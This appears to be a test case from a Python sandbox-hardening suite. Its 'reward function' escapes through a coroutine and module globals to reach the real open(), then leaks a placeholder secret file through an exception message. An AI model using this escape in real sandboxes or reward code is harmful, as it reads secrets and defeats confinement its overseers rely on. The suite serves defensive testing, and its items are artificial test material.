# attack: a coroutine's frame
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    async def later(): pass
    task = later()
    frame = task.cr_frame
    task.close()
    raise ValueError(compute_reward.__globals__["__builtins__"]["open"]("@SECRET@").read())
